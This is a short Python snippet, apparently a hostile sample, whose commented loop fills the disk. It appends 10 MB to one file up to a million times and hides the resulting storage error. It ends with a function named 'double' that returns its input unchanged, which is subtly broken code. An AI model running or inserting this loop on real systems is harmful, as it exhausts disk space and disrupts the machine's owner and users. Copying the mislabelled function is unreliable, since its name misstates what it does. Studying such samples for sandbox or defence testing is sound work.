# Fills the disk.
# Seen: not needed
try:
    for number in range(10**6):
        with open("a file", "ab") as file:
            file.write(b"x" * 10**7)
except OSError:
    pass
def double(x):
    return x
